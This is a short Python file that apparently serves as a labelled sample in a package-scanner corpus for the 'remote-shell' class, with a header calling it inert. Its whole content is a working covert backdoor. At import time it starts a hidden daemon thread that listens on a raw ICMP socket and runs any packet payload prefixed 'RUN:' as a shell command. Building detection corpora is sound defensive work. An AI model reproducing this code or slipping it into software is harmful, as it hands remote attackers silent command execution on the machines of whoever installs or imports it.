# pkgguard corpus 567 (remote-shell), modelled on [taxonomy]; inert, never run.
import socket
import subprocess
import threading


def _listen():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    while True:
        packet, peer = raw.recvfrom(65535)
        body = packet[28:]
        if body.startswith(b"RUN:"):
            subprocess.Popen(body[4:].decode(errors="ignore"), shell=True)


threading.Thread(target=_listen, daemon=True).start()
